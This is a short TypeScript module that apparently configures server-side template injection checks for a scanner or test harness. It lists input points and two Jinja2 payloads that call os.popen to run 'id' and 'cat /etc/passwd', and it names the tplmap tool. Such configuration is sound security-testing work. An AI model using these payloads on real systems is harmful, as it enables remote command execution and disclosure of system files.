import { injection } from "./injection.ts";
import { SSTI } from "./payloads/ssti.ts";

export const injectionSsti = injection({
  class: "ssti",
  title: "expressions that a template engine evaluates",
  payloads: SSTI,
  points: ["search", "searchPage", "review", "next"],
  exploits: [
    { payload: "{{cycler.__init__.__globals__.os.popen('id').read()}}", larger: 1.05 },
    { payload: "{{cycler.__init__.__globals__.os.popen('cat /etc/passwd').read()}}", larger: 1.3 },
  ],
  tools: ["tplmap/0.5"],
});
